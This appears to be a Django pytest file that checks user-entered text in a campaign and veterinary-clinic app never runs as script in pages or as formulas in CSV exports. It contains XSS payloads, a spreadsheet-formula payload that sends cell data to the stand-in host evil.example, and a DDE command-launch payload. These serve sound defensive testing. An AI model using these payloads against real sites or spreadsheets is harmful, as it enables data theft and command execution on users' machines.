"""Text one user types, shown to another: never run as script in a page, never run as a
formula when an export is opened in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse

from onevoice.accounts.choices import Role
from onevoice.campaigns import services as cs
from tests.campaigns.conftest import make_campaign
from tests.field.factories import world

XSS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
]
# Markers of markup a browser would run.
EXECUTABLE = re.compile(
    r"<script>alert|<img[^>]*onerror|<svg[^>]*onload|href=\"javascript:|href='javascript:",
    re.IGNORECASE,
)


def _executable(html: str) -> list[str]:
    return EXECUTABLE.findall(html)


@pytest.mark.parametrize("payload", XSS)
def test_campaign_text_is_never_run_as_script(client, org, payload):
    campaign = make_campaign(org)
    campaign = cs.campaign_brief_update(
        campaign=campaign,
        user=org.users[Role.MARKETING],
        expected_edit_version=campaign.edit_version,
        why=f"Because {payload}",  # rendered as Markdown
        objective=f"Find {payload}",  # plain text
    )
    cs.objection_raise(campaign=campaign, user=org.users[Role.SALES_REP], text=f"No {payload}")
    cs.comment_add(campaign=campaign, user=org.users[Role.SALES_REP], text=f"Hi {payload}")
    client.force_login(org.users[Role.SALES_MANAGER])
    html = client.get(reverse("campaigns:detail", kwargs={"slug": campaign.slug})).content.decode()
    assert "Because" in html  # the brief is on the page
    assert "Find" in html
    assert not _executable(html), _executable(html)


@pytest.mark.parametrize("payload", XSS)
def test_clinic_and_vet_names_are_never_run_as_script(client, org, payload):
    from onevoice.field import services as fs

    w = world(org)
    fs.clinic_update(clinic=w.clinic, by=None, changes={"name": f"Oak {payload}"})
    fs.vet_update(vet=w.vet, by=None, changes={"last_name": f"Silva {payload}"})
    client.force_login(org.users[Role.SALES_MANAGER])
    for name, kwargs in (
        ("field:clinics", {}),
        ("field:clinic", {"pk": w.clinic.pk}),
        ("field:vet", {"pk": w.vet.pk}),
        ("field:activities", {}),
    ):
        html = client.get(reverse(name, kwargs=kwargs or None)).content.decode()
        assert "Oak" in html, name
        assert not _executable(html), (name, _executable(html))


# --------------------------------------------------------------------------- exports

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with = + - @ (or a tab/CR first)."""
    return [c for c in cells if c[:1] in {"=", "+", "@", "\t", "\r"} or re.match(r"-[^\d]", c)]


def test_audit_export_never_hands_a_formula_to_the_spreadsheet(client, org):
    """Reps name clinics; the administrator exports the audit trail and opens it."""
    from onevoice.field import services as fs

    for formula in FORMULAS:
        fs.clinic_create(
            by=org.users[Role.SALES_REP],
            name=formula,
            region=org.north,
            territory=org.territory_own,
            segment="independent_small",
        )
    client.force_login(org.users[Role.ADMIN])
    response = client.get(reverse("accounts:audit") + "?format=csv")
    cells = _cells(b"".join(response.streaming_content).decode())
    assert sum("HYPERLINK" in c for c in cells) >= 1  # the names are exported
    assert not _formulas(cells)


def test_crm_refused_rows_report_never_hands_a_formula_to_the_spreadsheet(client, org):
    """A CRM export from outside carries formulas in refused cells; the administrator
    downloads the refused rows to fix them."""
    from onevoice.field import services as fs

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Account Name", "Region", "Vets"])
    writer.writerows(["Oak Vets", "N", formula] for formula in FORMULAS)
    crm_import = fs.crm_import_start(
        by=org.users[Role.ADMIN],
        kind="clinics",
        file_name="crm.csv",
        content=out.getvalue().encode(),
    )
    client.force_login(org.users[Role.ADMIN])
    response = client.get(reverse("field:import_report", kwargs={"pk": crm_import.pk}))
    cells = _cells(response.content.decode())
    assert sum("HYPERLINK" in c for c in cells) == 1  # the refused value is reported
    assert not _formulas(cells)
